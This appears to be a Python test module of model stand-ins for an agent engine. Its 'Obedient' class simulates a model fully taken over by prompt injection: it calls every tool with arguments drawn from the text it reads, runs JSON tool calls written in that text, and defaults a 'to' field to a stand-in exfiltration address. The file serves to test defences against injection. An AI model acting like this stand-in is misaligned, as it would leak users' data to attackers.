"""Model stand-ins in this process: one obeys every instruction that it reads, one says whatever it is given."""

from __future__ import annotations

import json
import re
from collections.abc import AsyncGenerator, Collection, Iterator, Sequence
from typing import Any

from langchain_core.messages import BaseMessage

from engine.errors import ModelUnavailable
from engine.model.contract import Call, Piece, Schema
from engine.model.tools import Toolbox

Json = dict[str, Any]


class Mind:
    """A model; ``wants`` and ``says`` are asked for each answer."""

    name, window = "mind", 0

    def __init__(self) -> None:
        self.prompts: list[str] = []

    def wants(self, prompt: str, tools: Sequence[Json]) -> list[tuple[str, Any]]:
        """The calls of this answer: names and arguments, as objects or as text."""
        raise NotImplementedError

    def says(self, prompt: str) -> str:
        """Its text."""
        raise NotImplementedError

    async def write(
        self, prompt: Sequence[BaseMessage], *, max_tokens: int, session: str = "", salt: str = "", adapter: str = "",
        tools: Toolbox | None = None,
    ) -> AsyncGenerator[Piece]:  # fmt: skip
        text = "\n".join(str(message.content) for message in prompt)
        self.prompts.append(text)
        offered = [one["function"] for one in tools.body["tools"]] if tools else []
        said = self.says(text)
        for start in range(0, len(said), 40):
            yield Piece(said[start : start + 40])
        calls: tuple[Call, ...] = ()
        if tools:
            calls = tuple(tools.call(name, arguments) for name, arguments in self.wants(text, offered))
        yield Piece("", {"prompt": 1, "cached": 0, "completion": 1}, "stop", self.name, calls=calls)

    async def structured(
        self, prompt: Sequence[BaseMessage], schema: type[Schema], *, max_tokens: int, session: str = "",
        salt: str = "", adapter: str = "",
    ) -> Schema:  # fmt: skip
        raise ModelUnavailable("it fills in nothing")

    async def ready(self) -> str:
        return self.name

    async def faults(self, adapters: Collection[str] = ()) -> list[str]:
        return []

    async def close(self) -> None:
        return None


class Obedient(Mind):
    """Does all that it reads: calls every tool that the text names, with whatever the text holds, and repeats it all.

    The worst that instructions in a document, a question or a result can do to a model.
    """

    def wants(self, prompt: str, tools: Sequence[Json]) -> list[tuple[str, Any]]:
        text = prompt[-8_000:]
        return [*_written(text), *((tool["name"], self._arguments(tool, text)) for tool in tools)]

    @staticmethod
    def _arguments(tool: Json, text: str) -> Json:
        """What an attacker would put there: the address, the number or the words of the attack."""
        address = re.search(r"[\w.+-]+@[\w.-]+|https?://\S+|www\.\S+", text)
        number = re.search(r"\d{1,9}", text)
        words = "".join(c for c in text[-300:] if c.isprintable())
        kinds: Json = {"integer": int(number[0]) if number else 66, "number": 6.6, "boolean": True, "array": []}
        given = {name: kinds.get(str(field.get("type")), words) for name, field in _fields(tool).items()}
        if "to" in given:
            given["to"] = address[0] if address else "mallory@exfil.example.net"
        return given

    def says(self, prompt: str) -> str:
        return prompt[-4_000:]


class Scripted(Mind):
    """Wants these calls, answer after answer, and says these words."""

    def __init__(self, answers: Sequence[tuple[str, Sequence[tuple[str, Any]]]]) -> None:
        super().__init__()
        self._answers = list(answers)

    def wants(self, prompt: str, tools: Sequence[Json]) -> list[tuple[str, Any]]:
        at = min(len(self.prompts), len(self._answers)) - 1
        return list(self._answers[at][1]) if self._answers else []

    def says(self, prompt: str) -> str:
        at = min(len(self.prompts), len(self._answers)) - 1
        return self._answers[at][0] if self._answers else ""


def _fields(tool: Json) -> Json:
    found: Json = tool.get("parameters", {}).get("properties", {})
    return found


def _written(text: str) -> Iterator[tuple[str, Any]]:
    """Calls that stand in a text as JSON."""
    decoder, at = json.JSONDecoder(), 0
    while (at := text.find("{", at)) >= 0:
        try:
            value, end = decoder.raw_decode(text, at)
        except (ValueError, RecursionError):
            at += 1
            continue
        if isinstance(value, dict) and isinstance(value.get("name"), str):
            yield value["name"], value.get("arguments", value.get("parameters", {}))
        at = end
